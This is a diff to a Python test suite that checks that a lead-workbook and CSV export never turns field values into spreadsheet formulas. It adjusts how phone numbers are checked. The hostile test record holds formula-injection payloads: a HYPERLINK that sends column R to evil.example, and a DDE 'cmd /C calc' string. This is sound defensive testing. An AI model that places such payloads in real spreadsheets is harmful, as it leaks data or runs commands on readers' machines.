@@ -24,10 +24,11 @@ from tests.conftest import World
 from tests.dispatcher.conftest import add_member, make_team, reply_to, stamped
 
 # The phone is the workbook's column R: the link would send it away.
+HOSTILE_PHONE = "+7 912 345-67-89"
 LEAK = '=HYPERLINK("http://evil.example/?leak="&R2,"Click")'
 HOSTILE = LeadFields(
     name=LEAK,
-    phone="+7 912 345-67-89",
+    phone=HOSTILE_PHONE,
     company="+cmd|' /C calc'!A0",
     industry="-2+3",
     region="@SUM(1+1)",
@@ -87,8 +88,12 @@ async def test_no_cell_of_the_workbook_is_a_formula(world: World) -> None:
         "Лиды", "Итоги", "История",
     }  # fmt: skip
     assert any(str(v).startswith("=cmd") for v in found)  # the channel, in "Каналы" too
-    # Text, and still text when someone edits the cell.
-    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
+    # Text, and still text when someone edits the cell; a phone in our own form ("+", digits,
+    # spaces, hyphens) can make no formula that does anything: a plain text cell.
+    phones = [cell for cell in hostile if cell.value == HOSTILE_PHONE]
+    assert phones and all(cell.data_type == "s" for cell in phones)
+    typed = [cell for cell in hostile if cell.value != HOSTILE_PHONE]
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in typed)
 
 
 async def test_no_field_of_the_csv_is_a_formula(world: World) -> None:
